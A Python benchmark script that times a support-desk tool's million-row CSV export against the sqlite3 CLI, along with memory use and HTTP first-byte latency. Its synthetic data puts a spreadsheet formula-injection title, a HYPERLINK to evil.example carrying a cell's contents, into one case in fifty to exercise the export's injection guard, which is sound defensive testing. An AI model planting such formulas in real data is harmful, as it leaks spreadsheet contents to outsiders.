"""CSV export of 1,000,000 cases: shopdesk's `export cases` against the sqlite3 CLI, same run.

1. Builds a store quickly: the schema through shopdesk (so it is a real, current store), then
   1,000,000 cases and 250,000 orders bulk-inserted with stdlib sqlite3 `executemany` straight
   into the tables (not through the services). About 1 case in 50 carries a hostile title
   ("=HYPERLINK(…)") and every phone starts with "+", so the injection guard has work to do.
2. Baseline: `sqlite3 -csv -header` runs the very SELECT the export runs (same columns, same join,
   same order), writing to a file. (The export writes two more columns, the SLA flags it works out
   from those times, so the baseline does a little less.)
3. shopdesk: `shopdesk --db … export cases -o FILE` in a child process (guard on — it always is);
   wall time, and that child's peak RSS from os.wait4's rusage. Steps 2 and 3 alternate, three
   times (`--runs`); the best time of each side counts, the highest RSS. CPU seconds (user +
   system, from the same rusage) are printed too: on a machine shared with other work they say
   more than wall time.
4. First byte over HTTP: `shopdesk serve` on loopback, GET /api/v1/exports/cases.csv with a bearer
   token; the time from sending the request to the first byte of the body (median of 3 after one
   warm-up request, and the cold one).

Prints the figures, then one JSON object as the last line:
  {"bench": "export", "export_s": …, "sqlite3_s": …, "ratio": …, "peak_rss_mb": …, "first_byte_ms": …}

    python bench/export.py [--cases 1000000] [--keep DIR]
"""

from __future__ import annotations

import argparse
import asyncio
import http.client
import json
import os
import resource
import socket
import sqlite3
import statistics
import subprocess
import sys
import tempfile
import time
from datetime import UTC, datetime, timedelta
from pathlib import Path

SHOPDESK = [sys.executable, "-m", "shopdesk"]
START = datetime(2025, 1, 1, tzinfo=UTC)
KINDS = ("lost", "damaged", "delivery_delayed", "wrong_item", "complaint", "ship_delayed",
         "payment_timeout", "refund_issue", "out_of_stock", "urgent_order")
CARRIERS = ("顺丰速运 SF", "YTO 圆通", "ZTO 中通", "JD Logistics", "EMS")
STATUSES = ("new", "open", "waiting", "escalated", "resolved", "closed", "closed", "closed")
NAMES = ("张伟", "王芳", "李娜", "刘洋", "陈静", "James Brown", "Emma Wilson", "Yuki Tanaka")
DEPARTMENTS = ("logistics", "warehouse", "sales", "qc", "customer_service", None)


def _iso(moment: datetime) -> str:
    return moment.isoformat(timespec="seconds")


async def _create_store(db: Path) -> str:
    """The schema, migrations and a bearer token, through shopdesk itself."""
    from shopdesk.services import Services
    from shopdesk.store import open_store

    async with open_store(db) as store:
        _, token = await Services(store).tokens.create("bench", operator="bench")
    return token


async def _settle_due_times(db: Path) -> None:
    """Due times as a store in use has them (computed with the SLA policy the export runs with,
    its fingerprint recorded), so no timed run includes the one-off recompute after a config
    change."""
    from shopdesk.services import Services
    from shopdesk.store import open_store

    async with open_store(db) as store:
        await Services(store).cases.ensure_due_times()


def build_store(db: Path, cases: int) -> str:
    token = asyncio.run(_create_store(db))
    conn = sqlite3.connect(db)
    conn.execute("PRAGMA synchronous = OFF")
    orders = max(1, cases // 4)

    def order_rows():
        for i in range(1, orders + 1):
            placed = START + timedelta(minutes=2 * i)
            at = _iso(placed)
            shipped = _iso(placed + timedelta(hours=20))
            yield (i, "bench", f"ext-{i}", f"#{100000 + i}", NAMES[i % 8], f"buyer{i}@example.cn",
                   f"+86 138 {i % 10000:04d} {i % 7919:04d}", "上海市浦东新区张江路 88 号",
                   4900 + (i * 37) % 90000, "CNY", "shipped", CARRIERS[i % 5], f"SF{i:012d}",
                   at, shipped, at)

    conn.executemany(
        """INSERT INTO orders (id, source, external_id, number, customer_name, customer_email,
               customer_phone, address, total_minor, currency, status, carrier, tracking_number,
               placed_at, shipped_at, updated_at)
           VALUES (?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?)""",
        order_rows(),
    )

    def case_rows():
        step = timedelta(seconds=max(1, int(2 * 365 * 86400 / cases)))
        for i in range(1, cases + 1):
            opened = START + step * i
            status = STATUSES[i % 8]
            done = status in ("resolved", "closed")
            responded = i % 5 != 0
            title = ('=HYPERLINK("http://evil.example/?x="&A1,"点击查看")' if i % 50 == 0
                     else f"包裹{('丢失', '破损', '延误')[i % 3]} parcel problem {i}")
            description = ("客户来电：快递显示已签收但未收到，要求核实并补发。"
                           if i % 3 else "Customer says the box arrived crushed, photos sent, wants a refund")
            yield (
                i, f"C-{i:06d}", KINDS[i % 10], 1 + i % 3, int(i % 9 == 0), status,
                ("operator", "supervisor")[i % 7 == 0], title, description,
                ("olga", "sam", "li.na", None)[i % 4], DEPARTMENTS[i % 6],
                ("carrier", "warehouse", "shop", None)[i % 4], DEPARTMENTS[(i + 1) % 6],
                DEPARTMENTS[(i + 3) % 6] if i % 5 == 0 else None, "",
                i % orders + 1, NAMES[i % 8], f"buyer{i}@example.cn",
                f"+86 139 {i % 10000:04d} {i % 4999:04d}", "bench", "intake", _iso(opened),
                _iso(opened + timedelta(minutes=20 + i % 300)) if responded else None,
                _iso(opened + timedelta(hours=4)), _iso(opened + timedelta(days=3)),
                None if done else _iso(opened + timedelta(hours=4)),
                _iso(opened + timedelta(hours=5 + i % 90)) if done else None,
                _iso(opened + timedelta(days=6)) if status == "closed" else None,
                "补发已签收，客户确认" if done else "", 3, _iso(opened), "bench",
            )

    conn.executemany(
        """INSERT INTO cases (id, ref, kind, level, urgent, status, tier, title, description,
               assignee, department, responsible_party, responsible_department, joint_department,
               root_cause, order_id, customer_name, customer_email, customer_phone, source,
               opened_by, opened_at, first_response_at, first_response_due_at, resolution_due_at,
               due_at, resolved_at, closed_at, resolution, version, updated_at, updated_by)
           VALUES (?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?,
                   ?, ?, ?, ?, ?)""",
        case_rows(),
    )
    conn.commit()
    conn.execute("PRAGMA wal_checkpoint(TRUNCATE)")
    conn.close()
    return token


class Run:
    """One child process: wall seconds, CPU seconds (user + system), peak RSS in MB."""

    def __init__(self, wall: float, usage: resource.struct_rusage) -> None:
        self.wall = wall
        self.cpu = usage.ru_utime + usage.ru_stime
        self.rss_mb = usage.ru_maxrss / 1024  # Linux: kilobytes


def _run(argv: list[str], *, stdin: bytes = b"", stdout=subprocess.DEVNULL,
         env: dict[str, str] | None = None) -> Run:
    started = time.perf_counter()
    child = subprocess.Popen(argv, env=env, stdin=subprocess.PIPE, stdout=stdout,
                             stderr=subprocess.PIPE)
    child.stdin.write(stdin)
    child.stdin.close()
    _, status, usage = os.wait4(child.pid, 0)
    wall = time.perf_counter() - started
    if os.waitstatus_to_exitcode(status) != 0:
        raise SystemExit(f"{argv[0]} failed: {child.stderr.read().decode()[-2000:]}")
    return Run(wall, usage)


def run_sqlite3(db: Path, out: Path) -> Run:
    """The export's own SELECT through the sqlite3 CLI, CSV with a header, into a file."""
    from shopdesk.domain.filters import CaseFilter
    from shopdesk.store.reports import row_query

    now = datetime.now(UTC)
    sql, params = row_query("cases", CaseFilter(), now)
    script = "".join(f".parameter set :{name} '{value}'\n" for name, value in params.items())
    script += ".headers on\n.mode csv\n" + sql.strip() + ";\n"
    with out.open("wb") as handle:
        return _run(["sqlite3", str(db)], stdin=script.encode(), stdout=handle)


def run_export(db: Path, out: Path, env: dict[str, str]) -> Run:
    """`shopdesk export cases -o out` in a child process."""
    return _run([*SHOPDESK, "--db", str(db), "export", "cases", "-o", str(out)], env=env)


def _free_port() -> int:
    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        return sock.getsockname()[1]


def _first_byte_ms(port: int, token: str) -> float:
    conn = http.client.HTTPConnection("127.0.0.1", port, timeout=30)
    started = time.perf_counter()
    conn.request("GET", "/api/v1/exports/cases.csv", headers={"Authorization": f"Bearer {token}"})
    response = conn.getresponse()
    if response.status != 200:
        raise SystemExit(f"HTTP export answered {response.status}: {response.read()[:300]!r}")
    response.read1(1)
    elapsed = (time.perf_counter() - started) * 1000
    conn.close()  # hang up mid-stream: the server must stop the export
    return elapsed


def _threads(pid: int) -> int:
    return len(os.listdir(f"/proc/{pid}/task"))


def first_byte(db: Path, token: str, env: dict[str, str]) -> tuple[float, float]:
    """(cold, median of 3 warm) milliseconds to the first body byte over HTTP."""
    port = _free_port()
    server = subprocess.Popen([*SHOPDESK, "--db", str(db), "serve", "--port", str(port)],
                              env=env, stdout=subprocess.PIPE, stderr=subprocess.PIPE)
    try:
        deadline = time.monotonic() + 30
        while True:
            try:
                with socket.create_connection(("127.0.0.1", port), timeout=1):
                    break
            except OSError:
                if server.poll() is not None or time.monotonic() > deadline:
                    raise SystemExit(f"shopdesk serve did not start: {server.stderr.read().decode()}")
                time.sleep(0.05)
        threads_before = _threads(server.pid)
        try:
            cold = _first_byte_ms(port, token)
            warm = [_first_byte_ms(port, token) for _ in range(3)]
        except OSError as error:
            server.terminate()
            raise SystemExit(f"HTTP export failed ({error}): {server.stderr.read().decode()[-2000:]}")
        time.sleep(1)
        # Each export reads on a connection (and an aiosqlite thread) of its own; hanging up must
        # close it.
        print(f"server threads: {threads_before} before the requests, "
              f"{_threads(server.pid)} after 4 hung-up exports")
        return cold, statistics.median(warm)
    finally:
        server.terminate()
        # serve sweeps the store when it starts: on this synthetic store (half the cases active,
        # many past due) the first sweep escalates a great many cases, and stopping waits for it
        server.wait(timeout=600)


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    parser.add_argument("--cases", type=int, default=1_000_000)
    parser.add_argument("--keep", type=Path, help="work in DIR and keep the files")
    parser.add_argument("--runs", type=int, default=3, help="runs of each side (best counts)")
    parser.add_argument("--settle", type=Path, help=argparse.SUPPRESS)
    args = parser.parse_args()
    if args.settle:
        asyncio.run(_settle_due_times(args.settle))
        return
    work = args.keep or Path(tempfile.mkdtemp(prefix="shopdesk-bench-export-"))
    work.mkdir(parents=True, exist_ok=True)
    db = work / "bench.db"
    for leftover in work.glob("bench.db*"):
        leftover.unlink()
    env = dict(os.environ, SHOPDESK_LOG=str(work / "shopdesk.log"),
               SHOPDESK_CONFIG=str(work / "none.toml"))

    started = time.perf_counter()
    token = build_store(db, args.cases)
    # In a process of its own: the recompute holds every active case at once, and a child forked
    # from a big parent would report the parent's RSS as its own peak.
    subprocess.run([sys.executable, __file__, "--settle", str(db)], env=env, check=True)
    print(f"built {args.cases:,} cases in {time.perf_counter() - started:.1f} s "
          f"({db.stat().st_size / 2**20:.0f} MB)")
    # Alternate the two, twice, and keep each one's best: other work on the machine only ever
    # makes a run slower, so the minimum is the fairest figure of each.
    sqlite3_runs: list[Run] = []
    export_runs: list[Run] = []
    for _ in range(args.runs):
        sqlite3_runs.append(run_sqlite3(db, work / "sqlite3.csv"))
        export_runs.append(run_export(db, work / "shopdesk.csv", env))
        print(f"sqlite3 -csv {sqlite3_runs[-1].wall:.2f} s (CPU {sqlite3_runs[-1].cpu:.2f} s) · "
              f"shopdesk export cases {export_runs[-1].wall:.2f} s (CPU {export_runs[-1].cpu:.2f} s), "
              f"peak RSS {export_runs[-1].rss_mb:.0f} MB")
    sqlite3_s = min(run.wall for run in sqlite3_runs)
    export_s = min(run.wall for run in export_runs)
    sqlite3_cpu = min(run.cpu for run in sqlite3_runs)
    export_cpu = min(run.cpu for run in export_runs)
    rss_mb = max(run.rss_mb for run in export_runs)
    print(f"sqlite3.csv {(work / 'sqlite3.csv').stat().st_size / 2**20:.0f} MB, "
          f"shopdesk.csv {(work / 'shopdesk.csv').stat().st_size / 2**20:.0f} MB")
    lines = sum(1 for _ in (work / "shopdesk.csv").open("rb"))
    print(f"shopdesk.csv has {lines:,} physical lines (header + {args.cases:,} rows)")
    cold_ms, warm_ms = first_byte(db, token, env)
    print(f"first byte over HTTP: {warm_ms:.1f} ms (cold {cold_ms:.1f} ms)")
    if not args.keep:
        for path in work.iterdir():
            path.unlink()
        work.rmdir()
    print(json.dumps({
        "bench": "export", "export_s": round(export_s, 2), "sqlite3_s": round(sqlite3_s, 2),
        "ratio": round(export_s / sqlite3_s, 2), "peak_rss_mb": round(rss_mb, 1),
        "first_byte_ms": round(warm_ms, 1), "first_byte_cold_ms": round(cold_ms, 1),
        "export_cpu_s": round(export_cpu, 2), "sqlite3_cpu_s": round(sqlite3_cpu, 2),
        "cpu_ratio": round(export_cpu / sqlite3_cpu, 2), "cases": args.cases,
    }))


if __name__ == "__main__":
    main()
